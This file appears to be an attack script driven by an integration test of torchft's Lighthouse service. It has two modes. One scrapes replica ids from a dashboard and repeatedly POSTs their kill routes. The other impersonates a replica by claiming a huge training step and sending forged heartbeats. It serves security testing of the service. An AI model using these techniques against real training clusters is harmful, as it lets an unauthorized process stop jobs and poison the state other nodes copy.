"""What a process on a worker (the job's user, with the job's PyTorch and torchft) can try against
the Lighthouse the nodes dial. Run by tests/integration/in_place/lighthouse.rs; prints what it did
and what it got, line by line, and never fails on a refusal (the test judges by the victim).

    attack.py kill <lighthouse> <dashboard>...   read the replica ids from the first dashboard that
                                                 answers, then POST each one's kill route, 3 times
    attack.py impersonate <lighthouse> <ghost> <twin>
        one quorum call for `ghost` claiming a huge step (the source every other node would copy
        its state from), then heartbeats for `ghost` and `twin` every 100 ms until killed
"""
import os
import re
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from datetime import timedelta

os.environ.setdefault("RUST_LOG", "error")


def say(*what):
    print(*what, flush=True)


def http(method, url):
    req = urllib.request.Request(url, method=method, data=b"" if method == "POST" else None)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode("utf-8", "replace")
    except OSError as e:
        return None, str(e)


def kill(lighthouse, dashboards):
    ids = []
    for url in dashboards:
        status, page = http("GET", f"{url}/status")
        say("dashboard", url, status)
        ids = re.findall(r'hx-post="/replica/([^"/]+)/kill"', page)
        if ids:
            break
    say("replicas", ids)
    for _ in range(3):
        for rid in ids:
            status, body = http("POST", f"{lighthouse}/replica/{urllib.parse.quote(rid, safe='')}/kill")
            say("kill", rid, status, body[:200])
    say("done")


def impersonate(lighthouse, ghost, twin):
    from torchft._torchft import LighthouseClient

    client = LighthouseClient(lighthouse, timedelta(seconds=5))
    host = ghost.split("#")[0]

    def ask():
        try:
            q = client.quorum(ghost, timedelta(seconds=20), address=f"http://{host}:1",
                              store_address=f"{host}:2", step=10**9, world_size=1, shrink_only=False)
            say("quorum joined", len(q.participants))
        except Exception as e:  # refused, or no quorum formed
            say("quorum refused", str(e)[:200])

    threading.Thread(target=ask, daemon=True).start()
    sent = refused = 0
    while True:
        for rid in (ghost, twin):
            try:
                client.heartbeat(rid)
                sent += 1
            except Exception:
                refused += 1
        if (sent + refused) % 20 == 0:
            say("heartbeats", sent, "refused", refused)
        time.sleep(0.1)


if __name__ == "__main__":
    mode, lighthouse, *rest = sys.argv[1:]
    if mode == "kill":
        kill(lighthouse, rest)
    else:
        impersonate(lighthouse, *rest)
